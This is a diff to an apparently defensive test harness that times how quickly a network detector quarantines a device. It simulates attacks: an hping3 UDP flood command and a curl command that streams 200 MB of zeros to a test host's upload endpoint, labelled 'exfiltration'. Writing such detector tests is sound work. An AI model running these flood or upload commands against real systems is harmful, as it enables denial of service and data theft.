@@ -77,9 +77,12 @@ def attacks(tb):
         # stopped as soon as the device is quarantined.
         Attack("hping3 flood", d[2], "flood",
                ["hping3", "--udp", "-p", "9", "-d", "64", "--flood", "198.18.64.20"], 8),
+        # Streamed from stdin (-T -, chunked): --data-binary @- would read all 200 MB into
+        # memory before sending a byte, and that time (seconds on a busy machine) would count
+        # against the detector.
         Attack("curl upload", d[3], "exfiltration",
                ["sh", "-c", f"head -c 200000000 /dev/zero | curl -sS -o /dev/null --max-time 15 "
-                            f"-X POST -H 'Content-Type: application/octet-stream' --data-binary @- "
+                            f"-X POST -H 'Content-Type: application/octet-stream' -T - "
                             f"http://{inet4}:{port}/upload"], 20),
     ]
 
